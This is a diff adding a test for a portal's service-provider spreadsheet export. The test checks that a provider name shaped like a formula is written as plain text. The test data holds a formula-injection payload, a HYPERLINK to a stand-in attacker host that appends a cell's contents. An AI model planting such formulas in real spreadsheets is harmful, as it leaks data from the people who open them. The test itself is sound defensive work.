@@ -98,6 +98,19 @@ it('exports the listed rows, filtered and in their order, to service-providers.x
   ]);
 });
 
+it('writes a provider name a spreadsheet would run as a formula as the text it is (a string cell, not a formula)', async () => {
+  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+  signInAs('LiberDiAdmin');
+  fakeServer().on('GET', new RegExp(`^${LIST}`), { status: 200, body: { items: [provider(1, { ServiceProviderName: hostile })] } });
+  renderPortal('/sp');
+  await waitFor(() => expect(rows()).toHaveLength(1), { timeout: 5000 });
+  const downloads = catchDownloads();
+  act(() => wrapper().findButton('[data-testid="export-spreadsheet"]')!.click());
+  await waitFor(() => expect(downloads.names).toEqual(['service-providers.xlsx']), { timeout: 5000 });
+  // A formula cell would be read back as its computed value (none here), never as this text.
+  expect((await readSheet(await downloads.bytes(0)))[1]).toEqual([hostile, 1, 10, 100]);
+});
+
 it('opens a provider’s tabs from its row, and the create form from Add', async () => {
   await openList();
   act(() => table()!.findBodyCell(2, 1)!.click());
